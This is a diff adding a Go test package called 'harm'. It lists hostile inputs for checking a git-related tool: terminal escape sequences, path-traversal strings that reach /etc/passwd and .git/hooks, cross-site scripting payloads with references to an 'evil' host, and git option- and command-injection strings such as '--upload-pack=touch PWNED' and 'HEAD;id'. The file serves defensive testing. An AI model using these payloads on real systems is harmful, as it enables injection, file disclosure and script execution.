@@ -1,0 +1,115 @@
+// Package harm has what others may say to do harm: texts for terminals and pages, paths, and names of revisions.
+package harm
+
+import (
+	"fmt"
+	"path/filepath"
+	"strings"
+)
+
+// Sequences act on a terminal, on the order of the text beside them, or on a drawing: 256 single bytes and the rest.
+func Sequences() []string {
+	list := []string{
+		"\x1b]0;title\x07", "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1b[2J",
+		"\x1b[1;1H", "\x1b[31m", "\x1b[?1049h", "\x1b[6n", "\x1bP+q544e\x1b\\", "\x1bc", "\x1b[201~",
+		"\x1b]1337;File=x\x07",
+		"\u009b31m", "\u009d0;x\u009c", "\u0090x\u009c", "\u0085", "a\rb", "a\bb", "a\vb", "a\fb", "\x7f",
+		"\x0e\x0f", "\u202eevil", "\u202a\u202b\u202c\u202d", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c",
+		"\u200b\u200c\u200d\ufeff", "\u2028\u2029", "\xc3\x28", "\xe2\x82", "\xf0\x9f", "\xed\xa0\x80", "\xc0\x80",
+		"\xff\xfe", "a\u0300\u0301\u0302", "\U000e0041\U000e007f", "\ufff9x\ufffa", "\x1b[3g", "\x1b#8", "\x1b[!p",
+		`"];evil[label="x`, `</script><script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `&lt;`,
+		"--> A[evil]", "```", `\n`, `"`, `'`, "`", "|", "#", "%%{init: {}}%%", "click A \"javascript:x\"", "$(id)",
+		"%s%n", "\x00",
+	}
+	for b := range 256 {
+		list = append(list, "<"+string([]byte{byte(b)})+">")
+	}
+	return list
+}
+
+// Paths point out of the work tree, into .git, or are no paths. The directory base holds the work tree as 'work', and
+// beside it what must not be reached: 'outside', 'theirs' and 'home'.
+func Paths(base string) []string {
+	paths := []string{
+		"..", "../x", "../../../../../../etc/passwd", "/etc/passwd", "/", ".", "", "./../x", "a/../../x", ".git",
+		".git/hooks/pre-commit", ".git/config", ".git/refs/heads/x", ".GIT/hooks/x", ".Git/x",
+		"git~1/hooks/x", ".git /x", ".git./x", ".git::$INDEX_ALLOCATION/x", "C:\\x", "C:/x", "\\\\server\\share",
+		"a\x00b", "a\nb", "-rf", "--upload-pack=x", "link/x", "dirlink/x", "up/x", "x\\..\\..\\y",
+		"\u200c.git/x", ".g\u200cit/x", "file:///etc/passwd", "~/x", "$HOME/x", "`id`", "$(id)", "a/./b", "a//b",
+		"con", "nul", "aux.txt", strings.Repeat("d/", 2000) + "x", strings.Repeat("x", 4096), "\xff\xfe",
+		filepath.Join(base, "home", ".gitconfig"), filepath.Join(base, "outside"), filepath.Join(base, "theirs"),
+		filepath.Join(base, "theirs", ".git", "config"), "%2e%2e/x", "..%2fx", "....//x", "/proc/self/environ",
+		"/dev/stdin",
+	}
+	var all []string
+	for _, p := range paths {
+		for _, form := range []string{
+			"%s", "a/%s", "./%s", "%s/", "../work/%s", "%s/../x", "//%s", " %s", "%s\t", "nested/../%s",
+		} {
+			all = append(all, fmt.Sprintf(form, p))
+		}
+	}
+	return all
+}
+
+// Markup is what a page would run, load or be changed by if it were not shown as text.
+func Markup() []string {
+	var list []string
+	const run = "alert(1)"
+	for _, form := range []string{
+		"<script>%s</script>", "<SCRIPT SRC=//evil/x.js></SCRIPT>", "<script\n>%s</script\n>",
+		"</title><script>%s</script>",
+		"</textarea><script>%s</script>", "</style><script>%s</script>", "</pre><script>%s</script>",
+		"--><script>%s</script>",
+		"]]><script>%s</script>", "<svg onload=%s>", "<svg><script>%s</script></svg>",
+		"<svg><animate onbegin=%s attributeName=x>",
+		"<svg><a xlink:href='javascript:%s'><text>x</text></a></svg>", "<math><mtext><style><img src=x onerror=%s>",
+		"<img src=x onerror=%s>", "<img src=//evil/x.png>", "<img srcset='//evil/x.png 2x'>", "<body onload=%s>",
+		"<iframe srcdoc='<script>%s</script>'>", "<iframe src='javascript:%s'>",
+		"<object data='data:text/html,<script>%s</script>'>",
+		"<embed src='data:text/html,<script>%s</script>'>", "<style>body{background:url(//evil/x)}</style>",
+		"<style>@import '//evil/x';</style>",
+		"<link rel=stylesheet href=//evil/x.css>", "<link rel=prefetch href=//evil/x>",
+		"<meta http-equiv=refresh content='0;url=//evil'>",
+		"<base href=//evil/>", "<form action=//evil><input name=k></form>", "<a href='javascript:%s'>x</a>",
+		"<a href=//evil>x</a>",
+		"<a href='data:text/html,<script>%s</script>'>x</a>", "<details open ontoggle=%s>",
+		"<input autofocus onfocus=%s>",
+		"<video><source onerror=%s></video>", "<audio src=x onerror=%s>", "<marquee onstart=%s>",
+		"<template><script>%s</script></template>",
+		"<noscript><p title='</noscript><script>%s</script>'>", "<x contenteditable onblur=%s>",
+		"<table background=//evil/x>",
+		"<div style='background:url(//evil/x)'>", "<!--<img src=--><img src=x onerror=%s>",
+		"<![CDATA[<script>%s</script>]]>",
+		"\" onmouseover=\"%s", "' onmouseover='%s", "\" autofocus onfocus=%s x=\"", "javascript:%s",
+		"data:text/html,<script>%s</script>",
+		"&lt;script&gt;%s&lt;/script&gt;", "&#60;script&#62;%s", "\u003cscript\u003e%s",
+		"{{.}}{{template \"head\" .}}", "${%s}", "<%= %s %>",
+		"![x](//evil/x.png)", "[x](javascript:%s)", "<plaintext>", "<xmp><script>%s</script>",
+		"<a\u2028href=javascript:%s>",
+		"<script>%s//\x00</script>", "<\x00script>%s</script>",
+	} {
+		list = append(list, strings.ReplaceAll(form, "%s", run))
+	}
+	return list
+}
+
+// Revisions are none, or would be options of git.
+func Revisions() []string {
+	list := []string{
+		"", " ", "-", "--", "-x", "--all", "--stdin", "--help", "--git-dir=/etc", "--output=PWNED",
+		"--upload-pack=touch PWNED", "-oPWNED", "--exec=touch PWNED",
+		"--branches", "--remotes", "--glob=*", "--exclude=x", "--reflog", "--not", "--parents", "--bisect",
+		"--no-walk", "@{u}", "@{-1}", "HEAD@{99}", "HEAD^99",
+		"HEAD~99999", "HEAD^{tree}", "HEAD:a", "HEAD:../x", ":a", ":0:a", ":/.*", "HEAD^{/x", "HEAD^{nothing}",
+		"HEAD..", "..HEAD", "HEAD...", "^HEAD", "HEAD^@", "HEAD^!",
+		"HEAD\n--all", "HEAD\x00--all", "HEAD --all", "HEAD;id", "HEAD|id", "$(id)", "`id`", "refs/../../x",
+		"refs/heads/../../../x", "../../etc/passwd", "/etc/passwd",
+		"0000000000000000000000000000000000000000", "ffffffff", strings.Repeat("a", 5000),
+		strings.Repeat("HEAD^", 500), "\xff\xfe", "\u202eHEAD", "HEAD%00", "%2d%2dall",
+	}
+	for _, name := range []string{"FETCH_HEAD", "ORIG_HEAD", "refs/traces/events"} {
+		list = append(list, name, name+"^0")
+	}
+	return list
+}
